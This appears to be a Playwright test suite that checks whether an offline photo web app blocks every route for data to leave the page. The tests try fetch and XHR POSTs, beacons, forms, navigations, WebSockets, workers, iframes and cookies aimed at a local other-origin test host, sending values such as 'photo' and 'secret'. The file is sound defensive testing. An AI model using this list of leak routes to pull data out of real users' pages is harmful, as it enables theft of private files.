"""Every way out of the page is tried from inside it: blocked, counted, and nothing arrives."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page

from tests.browser.witness import BOOK, GUARD, OFFLINE, Witness, elsewhere, plain, until

READY = f"{OFFLINE}.state === 'ready' && navigator.serviceWorker.controller !== null"


@pytest.fixture
def away() -> Iterator[Witness]:
    """A host on another origin."""
    with elsewhere() as witness:
        yield witness


@pytest.fixture(scope="module")
def host(site: Path) -> Iterator[Witness]:
    """The site on a plain host of its own."""
    with plain(site) as witness:
        yield witness


@pytest.fixture
def home(host: Witness) -> Witness:
    """That host, with a log that is this test's alone."""
    host.seen.clear()
    return host


@pytest.fixture(scope="module")
def visited(browser: Browser, host: Witness) -> Iterator[BrowserContext]:
    """A browser that has been there: the service worker is installed."""
    context = browser.new_context()
    page = context.new_page()
    open_controlled(page, host.url)
    page.close()
    yield context
    context.close()


@pytest.fixture
def opened(visited: BrowserContext, home: Witness) -> Iterator[Page]:
    """The page under its service worker, isolated."""
    page = visited.new_page()
    open_controlled(page, home.url)
    assert page.evaluate(BOOK)["blocked"] == []
    yield page
    for left in visited.pages:
        left.close()


@pytest.fixture
def fresh(page: Page, home: Witness) -> Page:
    """The same in a browser of its own, for what lasts longer than a page."""
    open_controlled(page, home.url)
    return page


def open_controlled(page: Page, url: str) -> None:
    """Go there, and wait until the page has reloaded itself for the headers."""
    page.goto(url)
    until(page, "crossOriginIsolated")
    until(page, READY)


def blocked(page: Page, kind: str, count: int = 1) -> list[dict[str, Any]]:
    """The ledger's blocked entries of a kind, once there are `count` of them."""
    found = f"{BOOK}.blocked.filter((entry) => entry.kind === '{kind}')"
    until(page, f"{found}.length >= {count}", 10)
    entries: list[dict[str, Any]] = page.evaluate(found)
    assert all(entry["why"] and entry["from"] == "blocked" for entry in entries)
    return entries


FAILS = "async (go) => { try { await go(); return 'went through'; } catch (e) { return e.name; } }"


def fails(page: Page, code: str) -> str:
    """The name of the error that the code ends with."""
    name: str = page.evaluate(f"async () => await ({FAILS})(async () => {{ {code} }})")
    return name


@pytest.fixture(autouse=True)
def nothing_arrives(home: Witness, away: Witness) -> Iterator[None]:
    """After each test: nothing reached the other host, and this one only plain GETs."""
    yield
    assert away.seen == []
    assert {(one.method, one.body, one.cookie) for one in home.seen} <= {("GET", False, False)}
    assert [one.target for one in home.seen if "?" in one.target or "secret" in one.target] == []


@pytest.mark.parametrize("where", ["own", "away"])
def test_a_post_by_fetch(opened: Page, home: Witness, away: Witness, where: str) -> None:
    url = {"own": home.url, "away": away.url}[where] + "secret"
    code = f"await fetch('{url}', {{method: 'POST', body: 'photo'}})"
    assert fails(opened, code) == "TypeError"
    [entry] = blocked(opened, "fetch")
    assert (entry["method"], entry["url"]) == ("POST", url)
    assert opened.evaluate(BOOK)["bytesUp"] == 0


@pytest.mark.parametrize("where", ["own", "away"])
def test_a_post_by_xhr(opened: Page, home: Witness, away: Witness, where: str) -> None:
    url = {"own": home.url, "away": away.url}[where] + "secret"
    code = f"const x = new XMLHttpRequest(); x.open('POST', '{url}'); x.send('photo')"
    assert fails(opened, code) == "NetworkError"
    [entry] = blocked(opened, "xhr")
    assert (entry["method"], entry["url"]) == ("POST", url)


def test_a_get_with_a_query_or_to_a_file_that_is_not_listed(opened: Page) -> None:
    assert fails(opened, "await fetch('index.html?secret=1')") == "TypeError"
    assert fails(opened, "await fetch('secret/1')") == "TypeError"
    whys = [entry["why"] for entry in blocked(opened, "fetch", 2)]
    assert "query" in whys[0]
    assert "list" in whys[1]


def test_headers_of_a_fetch_do_not_travel(opened: Page) -> None:
    # The service worker asks anew, by the address alone: the file is fetched, the header is not.
    code = "await fetch('codecs/webp_dec.wasm', {headers: {'X-Secret': 'photo'}})"
    assert fails(opened, code) == "went through"


def test_a_beacon(opened: Page, home: Witness, away: Witness) -> None:
    for url in (home.url, away.url):
        assert opened.evaluate(f"navigator.sendBeacon('{url}secret', 'photo')") is False
    assert len(blocked(opened, "beacon", 2)) == 2


def test_a_picture_a_style_sheet_and_a_script_elsewhere(opened: Page, away: Witness) -> None:
    opened.evaluate(
        """(url) => {
            new Image().src = url + 'secret.png';
            const link = document.createElement('link');
            link.rel = 'stylesheet';
            link.href = url + 'secret.css';
            document.head.append(link);
        }""",
        away.url,
    )
    [picture] = blocked(opened, "image")
    assert picture["url"] == away.url + "secret.png"
    assert blocked(opened, "style")[0]["url"] == away.url + "secret.css"
    set_src = f"const s = document.createElement('script'); s.src = '{away.url}secret.js'"
    assert fails(opened, set_src) == "TypeError"
    assert blocked(opened, "trusted-types")[0]["url"] == away.url + "secret.js"


def test_a_picture_of_the_own_host_that_is_not_listed(opened: Page) -> None:
    opened.evaluate("new Image().src = 'secret.png'")
    [entry] = blocked(opened, "image")
    assert entry["witness"] == "service-worker"


def test_a_string_as_markup_or_code(opened: Page) -> None:
    assert fails(opened, "document.body.innerHTML = '<b>x</b>'") == "TypeError"
    # Of a task of the page's own: what the test itself evaluates, the browser exempts.
    code = """await new Promise((ok, no) => setTimeout(() => {
        try { ok(eval('1')) } catch (e) { no(e) }
    }))"""
    assert fails(opened, code) == "EvalError"


ANCHOR = "const a = document.createElement('a'); a.href = URL; "
LEAVES = {
    "location": "location.href = URL",
    "assign": "location.assign(URL)",
    "replace": "location.replace(URL)",
    "link": ANCHOR + "document.body.append(a); a.click()",
    "loose link": ANCHOR + "a.click()",
    "dispatched click": ANCHOR + "a.dispatchEvent(new MouseEvent('click'))",
    "link in a new window": ANCHOR + "a.target = '_blank'; document.body.append(a); a.click()",
    "meta refresh": (
        "const m = document.createElement('meta'); m.httpEquiv = 'refresh';"
        "m.content = '0;url=' + URL; document.head.append(m)"
    ),
}


@pytest.mark.parametrize("where", ["own", "away"])
@pytest.mark.parametrize("way", LEAVES)
def test_a_navigation(opened: Page, home: Witness, away: Witness, way: str, where: str) -> None:
    url = {"own": home.url + "?secret", "away": away.url + "?secret"}[where]
    opened.evaluate("(url) => { const URL = url; " + LEAVES[way] + " }", url)
    assert blocked(opened, "navigation")[0]["url"] == url
    assert opened.url == home.url
    assert len(opened.context.pages) == 1


def test_a_new_window(opened: Page, away: Witness) -> None:
    assert opened.evaluate(f"window.open('{away.url}?secret')") is None
    assert blocked(opened, "window")[0]["url"] == f"{away.url}?secret"
    assert len(opened.context.pages) == 1


@pytest.mark.parametrize("how", ["submit", "requestSubmit"])
@pytest.mark.parametrize("where", ["own", "away"])
@pytest.mark.parametrize("method", ["get", "post"])
def test_a_form(
    opened: Page, home: Witness, away: Witness, how: str, where: str, method: str
) -> None:
    opened.evaluate(
        """([action, method, how]) => {
            const form = document.createElement('form');
            Object.assign(form, {action, method});
            const field = document.createElement('input');
            Object.assign(field, {name: 'secret', value: 'photo'});
            form.append(field);
            document.body.append(form);
            form[how]();
        }""",
        [{"own": home.url, "away": away.url}[where], method, how],
    )
    blocked(opened, "form")
    assert opened.url == home.url


@pytest.mark.parametrize(
    ("kind", "code"),
    [
        ("websocket", "new WebSocket(URL.replace('http', 'ws'))"),
        ("eventsource", "new EventSource(URL)"),
        ("webtransport", "new WebTransport(URL.replace('http:', 'https:'))"),
        ("rtc", "new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:9'}]})"),
        ("worker", "new Worker(URL)"),
        ("worker", "new Worker('secret.js')"),
        ("worker", "new SharedWorker(URL)"),
        ("worker", "new Worker(window.URL.createObjectURL(new Blob(['0'])))"),
        ("frame", "document.createElement('iframe')"),
    ],
)
def test_what_this_site_never_makes(opened: Page, away: Witness, kind: str, code: str) -> None:
    made = f"const URL = '{away.url}secret'; {code}"
    assert fails(opened, made) in {"SecurityError", "NotSupportedError", "TypeError"}
    if code != "new Worker('secret.js')":
        blocked(opened, kind)


def test_what_is_wrapped_cannot_be_unwrapped(opened: Page, away: Witness) -> None:
    undone = opened.evaluate(
        """() => ['fetch', 'WebSocket', 'open', 'Worker'].filter((name) => {
            const before = window[name];
            try { window[name] = 1; } catch {}
            try { delete window[name]; } catch {}
            try { Object.defineProperty(window, name, {value: 1}); } catch {}
            return window[name] !== before;
        })"""
    )
    assert undone == []
    code = f"new (WebSocket.prototype.constructor)('{away.url.replace('http', 'ws')}')"
    assert fails(opened, code) == "SecurityError"


FRAMES = {
    "element": "document.createElement('iframe')",
    "with a prefix": "document.createElementNS(XHTML, 'x:iframe')",
    "document": "document.implementation.createDocument(XHTML, 'iframe').documentElement",
    "elsewhere": "document.implementation.createHTMLDocument('').createElement('iframe')",
    "custom": (
        "(class X extends HTMLIFrameElement {}, customElements.define('x-y',"
        " class X extends HTMLIFrameElement {}, {extends: 'iframe'}))"
    ),
    "parser": "new DOMParser().parseFromString('<iframe>', 'text/html').body.firstChild",
    "template": "document.createElement('template').innerHTML = '<iframe></iframe>'",
    "object": "document.createElement('object')",
    "embed": "document.createElement('embed')",
    "unsafe": "document.createElement('p').setHTMLUnsafe('<iframe></iframe>')",
    "fragment": "document.createRange().createContextualFragment('<iframe></iframe>')",
}


@pytest.mark.parametrize("way", FRAMES)
def test_no_frame_brings_a_fetch_of_its_own(opened: Page, way: str) -> None:
    code = f"const XHTML = 'http://www.w3.org/1999/xhtml'; document.body.append({FRAMES[way]})"
    assert fails(opened, code) in {"NotSupportedError", "TypeError"}
    assert opened.evaluate("window.length") == 0


def test_cookies_are_not_kept(fresh: Page) -> None:
    fresh.evaluate("document.cookie = 'secret=photo'")
    blocked(fresh, "cookie")
    assert fresh.context.cookies() == []


def test_a_hint_to_connect_elsewhere_is_named(opened: Page, away: Witness) -> None:
    opened.evaluate(
        """(url) => {
            const link = document.createElement('link');
            link.rel = 'preconnect';
            link.href = url;
            document.head.append(link);
        }""",
        away.url,
    )
    assert blocked(opened, "hint")[0]["url"] == away.url
    assert opened.locator("link[rel=preconnect]").count() == 0


def test_a_worker_is_guarded_and_tells_the_page(opened: Page, away: Witness) -> None:
    url = opened.evaluate(
        """async () => (await (await fetch('precache.json')).json()).files
            .map((file) => file.url).find((url) => /^assets\\/.*worker.*\\.js$/.test(url))"""
    )
    with opened.expect_worker() as made:
        opened.evaluate(f"void (window.kept = new Worker('{url}', {{type: 'module'}}))")
    worker = made.value
    attempts = [
        f"await fetch('{away.url}secret', {{method: 'POST', body: 'photo'}})",
        f"await fetch('{url}', {{method: 'POST', body: 'photo'}})",
        f"new WebSocket('{away.url.replace('http', 'ws')}')",
        f"const x = new XMLHttpRequest(); x.open('POST', '{away.url}'); x.send('1')",
        f"importScripts('{away.url}secret.js')",
    ]
    for code in attempts:
        name = worker.evaluate(f"async () => await ({FAILS})(async () => {{ {code} }})")
        assert name in {"TypeError", "SecurityError", "NetworkError"}, code
    seen = {entry["witness"] for entry in blocked(opened, "fetch", 2)}
    assert seen == {"worker"}
    blocked(opened, "websocket")
    blocked(opened, "xhr")


def test_after_the_lock_nothing_is_asked_of_the_host(fresh: Page, home: Witness) -> None:
    fresh.evaluate(
        f"async () => {{ for (const g of ['shell', 'first']) await {OFFLINE}.precache(g) }}"
    )
    fresh.evaluate(f"async () => {{ await {GUARD}.lock() }}")
    before = len(home.seen)
    first = "codecs/squoosh_png_bg.wasm"
    assert fresh.evaluate(f"async () => (await fetch('{first}')).status") == 200
    assert fails(fresh, "await fetch('codecs/mozjpeg_enc.wasm')") == "TypeError"
    assert fails(fresh, f"await {OFFLINE}.precache('later')") == "Error"
    book = fresh.evaluate(BOOK)
    assert home.asked(before) == []
    assert book["locked"] is True
    assert book["networkSinceLock"] == 0
    assert "locked" in blocked(fresh, "fetch")[0]["why"]


def test_the_audit_can_be_kept(opened: Page, away: Witness) -> None:
    fails(opened, f"await fetch('{away.url}secret', {{method: 'POST', body: 'photo'}})")
    audit = json.loads(opened.evaluate(f"async () => await {GUARD}.audit().text()"))
    assert audit["bytes_up"] == 0
    assert audit["blocked"] == 1
    assert audit["list_of_blocked"][0]["url"] == f"{away.url}secret"
    assert all(audit["layers"].values()), audit["layers"]
    shell = [file for file in audit["files"] if file["group"] == "shell"]
    assert shell
    assert all(file["in_cache"] and len(file["sha256"]) == 64 for file in shell)
    assert "default-src 'none'" in audit["policy"]


def test_what_the_browser_sent_is_what_the_page_says(page: Page, home: Witness) -> None:
    asked: list[tuple[str, str]] = []
    page.context.on("request", lambda request: asked.append((request.method, request.url)))
    open_controlled(page, home.url)
    page.evaluate(f"async () => {{ await {OFFLINE}.precache('first') }}")
    assert {method for method, _ in asked} == {"GET"}
    elsewhere_asked = [url for _, url in asked if not url.startswith((home.url, "blob:", "data:"))]
    assert elsewhere_asked == []
    listed = {entry["url"] for entry in page.evaluate(BOOK)["requests"]}
    models = {home.url + one.target[1:] for one in home.seen if "/models/" in one.target}
    assert models
    assert models <= listed
